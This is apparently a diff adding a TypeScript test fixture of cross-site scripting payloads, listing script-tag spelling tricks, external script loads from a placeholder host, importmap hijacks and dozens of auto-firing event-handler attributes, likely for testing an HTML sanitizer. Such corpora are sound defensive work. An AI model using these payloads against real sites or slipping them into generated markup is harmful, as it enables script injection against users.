@@ -1,0 +1,60 @@
+import { ACT, ELSEWHERE, of, type Payload } from './payload.ts';
+
+/** Script elements, in every spelling a parser forgives. */
+export const SCRIPTS: readonly Payload[] = of('script', [
+  `<script>${ACT}</script>`,
+  `<SCRIPT>${ACT}</SCRIPT>`,
+  `<ScRiPt type="module">${ACT}</sCrIpT>`,
+  `<script src="${ELSEWHERE}/a.js"></script>`,
+  `<script src=//elsewhere.invalid/a.js></script>`,
+  `<script\n>${ACT}</script\n>`,
+  `<script/x>${ACT}</script/y>`,
+  `<script>${ACT}`,
+  `<script>/*</script><script>*/${ACT}</script>`,
+  `<<script>${ACT}//<</script>`,
+  `<script><!-- ${ACT}\n--></script>`,
+  `</script><script>${ACT}</script>`,
+  `<script async defer nomodule>${ACT}</script>`,
+  `<script type="importmap">{"imports":{"react":"${ELSEWHERE}/a.js"}}</script>`,
+  `<script type="speculationrules">{"prefetch":[{"urls":["${ELSEWHERE}/"]}]}</script>`,
+  `<p>Hei<script>${ACT}</script>du</p>`,
+  `<scr<script>ipt>${ACT}</script>`,
+  `<script>import("${ELSEWHERE}/a.js")</script>`,
+  `<noscript><script>${ACT}</script></noscript>`,
+  `<script language="vbscript">window.hacked=1</script>`,
+]);
+
+const on = (name: string): string => `${name}="${ACT}"`;
+
+/** Attributes that act: by themselves, at a touch, or once something has loaded. */
+export const HANDLERS: readonly Payload[] = of('handler', [
+  `<img src=x ${on('onerror')}>`,
+  `<img src=x onerror=${ACT}>`,
+  `<IMG SRC=x OnErRoR='${ACT}'>`,
+  `<img/src=x/onerror=${ACT}>`,
+  `<img src=x ${on('onerror\n')}>`,
+  `<p ${on('onclick')}>Hei</p>`,
+  `<a href="https://elsewhere.invalid" ${on('onmouseover')}>Hei</a>`,
+  `<b ${on('onpointerrawupdate')}>Hei</b>`,
+  `<ul ${on('onscrollsnapchange')}><li>Hei</ul>`,
+  `<h2 tabindex=0 autofocus ${on('onfocus')}>Hei</h2>`,
+  `<body ${on('onload')}>`,
+  `<body ${on('onpageshow')} ${on('onhashchange')}>`,
+  `<input autofocus ${on('onfocus')}>`,
+  `<select autofocus ${on('onfocusin')}>`,
+  `<details open ${on('ontoggle')}><summary>Hei</summary></details>`,
+  `<p id=pop popover ${on('onbeforetoggle')}>Hei</p><button popovertarget=pop>Vis</button>`,
+  `<video autoplay ${on('onloadstart')}><source src=x ${on('onerror')}></video>`,
+  `<audio src=x ${on('onerror')}></audio>`,
+  `<marquee ${on('onstart')}>Hei</marquee>`,
+  `<p style="animation:turn 1s" ${on('onanimationstart')}>Hei</p>`,
+  `<p style="transition:color 1s" ${on('ontransitionend')}>Hei</p>`,
+  `<iframe srcdoc="" ${on('onload')}></iframe>`,
+  `<object data=x ${on('onerror')}></object>`,
+  `<a href=https://elsewhere.invalid ${on('onauxclick')} ${on('oncontextmenu')}>Hei</a>`,
+  `<blockquote contenteditable ${on('oninput')} ${on('onbeforeinput')}>Hei</blockquote>`,
+  `<em ${on('oncopy')} ${on('onpaste')} ${on('ondrop')}>Hei</em>`,
+  `<p ${on('onsecuritypolicyviolation')}>Hei</p>`,
+  `<dialog open ${on('onclose')}>Hei</dialog>`,
+  `<hr ${on('onwheel')}>`,
+]);
